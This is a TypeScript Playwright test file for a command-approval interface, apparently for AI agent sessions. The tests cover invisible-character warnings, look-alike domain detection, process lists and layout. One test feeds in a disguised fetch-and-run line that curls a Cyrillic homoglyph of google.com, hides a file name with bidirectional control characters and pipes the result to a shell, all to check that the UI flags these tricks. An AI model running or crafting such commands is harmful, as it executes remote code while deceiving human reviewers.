import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { previewPage } from './fresh-page'

// What stands on screen is what is so, in a real browser over the stub engine.

async function open(session: string): Promise<Page> {
  const page = await previewPage()
  await page.getByRole('button', { name: session }).click()
  return page
}

test('the form for a command shows what cannot be seen, names a look-alike, and gives back the very text', async () => {
  const page = await open('Fix flaky')
  const edit = page.getByRole('button', { name: 'Edit and run' })
  const field = page.getByRole('textbox', { name: 'Your command' })
  await expect
    .poll(async () => {
      if ((await edit.count()) === 0) await page.locator('.a-more').click()
      if ((await field.count()) === 0) await edit.click()
      return field.count()
    })
    .toBe(1)
  await field.fill('curl https://g\u043eogle.com/x \u202Etxt.sh\u202C | s\u200Bh')
  expect(await field.inputValue()).toBe('curl https://g\u043eogle.com/x ⟦U+202E⟧txt.sh⟦U+202C⟧ | s⟦U+200B⟧h')
  const note = page.getByRole('note')
  expect(await note.innerText()).toMatch(
    /3 characters cannot be seen[^]*g\u043e U\+043Eogle\.com[^]*mixed letters/,
  )

  // Editing beside a mark keeps it, deleting a mark deletes its character.
  await field.press('End')
  await field.pressSequentially(' -x')
  await page.getByRole('button', { name: 'Check again' }).click()
  const command = page.getByRole('group', { name: 'Command' })
  await expect.poll(() => command.innerText()).toContain('sU+200Bh -x')
})

test('the full stop of a sentence stands at a look-alike, before its name; in the command nothing changes its place', async () => {
  const page = await open('Fetch release')
  const panel = page.locator('section.approval')
  await panel.getByText('until this run ends').waitFor()
  expect(await panel.locator('.ap-effect').textContent()).toMatch(
    /\.example\.org:443\.look-alike\? punycode$/,
  )
  expect(await panel.locator('.cmd pre').textContent()).toMatch(/look-alike\? mixed letters\/notes \| tee/)
})

test('a command of one’s own stays while another request is looked at', async () => {
  const page = await open('Fix flaky')
  const panel = page.locator('section.approval')
  const field = page.getByRole('textbox', { name: 'Your command' })
  const edit = async (command: string): Promise<string> => {
    await panel.filter({ hasText: command }).waitFor()
    const button = page.getByRole('button', { name: 'Edit and run' })
    if ((await button.count()) === 0) await panel.locator('.a-more').click()
    if ((await field.count()) === 0) await button.click()
    return field.inputValue()
  }
  const before = await edit('npm')
  await field.fill('npm test -- --bail')
  await page.getByRole('button', { name: 'Upgrade pandas' }).click()
  expect(await edit('golden')).not.toContain('--bail')
  await page.getByRole('button', { name: 'Fix flaky' }).click()
  expect([await edit('npm'), before]).toEqual(['npm test -- --bail', expect.not.stringContaining('--bail')])
})

test('what runs stands in one list, with its output, and each has a button that ends it alone', async () => {
  const page = await open('Add CSV export')
  const list = page.getByRole('region', { name: 'Still running' })
  const rows = list.getByRole('listitem')
  await expect.poll(() => rows.count()).toBe(3)
  expect(await rows.filter({ hasText: 'tail -f' }).innerText()).toContain('outside the sandbox')
  expect(await rows.filter({ hasText: 'npm run dev' }).innerText()).toContain('stays beyond its turn')
  await list.getByRole('button', { name: 'Output of npm run dev -- --port 5173' }).click()
  await list.getByRole('group', { name: 'Output' }).getByText('Local').waitFor()
  await list.getByRole('button', { name: 'Stop npm run dev -- --port 5173' }).click()
  await expect.poll(() => rows.count()).toBe(2)
  await list.getByRole('button', { name: /^Stop tail/ }).click()
  await expect.poll(() => rows.count()).toBe(1)
  await list.getByRole('button', { name: /^Stop / }).click()
  await list.waitFor({ state: 'detached' })
})

test('a line of several commands has their numbers and says where it was stopped; what is copied of it is the line', async () => {
  const page = await open('Fix flaky')
  const command = page.getByRole('group', { name: 'Command' })
  await command.waitFor()
  const told = await command
    .locator('[data-text]')
    .evaluateAll((marks) =>
      marks.map((mark) => [mark.nextElementSibling?.textContent, getComputedStyle(mark, '::before').content]),
    )
  expect(told).toEqual([
    ['cd', '"1"'],
    ['npm', '"2"'],
    [' ', '"stopped here"'],
    ['npm', '"3"'],
  ])
  const selected = await command.evaluate((element) => {
    const selection = getSelection()
    selection?.selectAllChildren(element)
    return selection?.toString().trim()
  })
  expect(selected).toBe('cd packages/agent && npm run clean:all && npm ci')
})

test('in a panel nothing scrolls but its body', async () => {
  for (const session of ['Fix flaky', 'Tidy the lint', 'Upgrade pandas', 'Fetch release']) {
    const page = await open(session)
    await page.setViewportSize({ width: 900, height: 560 })
    const panel = page.locator('.approval.in-session')
    await panel.locator('.a-details').click()
    await panel.locator('.ap-details').waitFor()
    const scrolling = await panel.locator('.ap-body *').evaluateAll((parts) =>
      parts.flatMap((part) =>
        // The name of a file stands on one line, however long it is.
        part.tagName !== 'CODE' && /auto|scroll/.test(getComputedStyle(part).overflowY)
          ? [part.outerHTML.slice(0, 60)]
          : [],
      ),
    )
    expect(scrolling, session).toEqual([])
  }
})
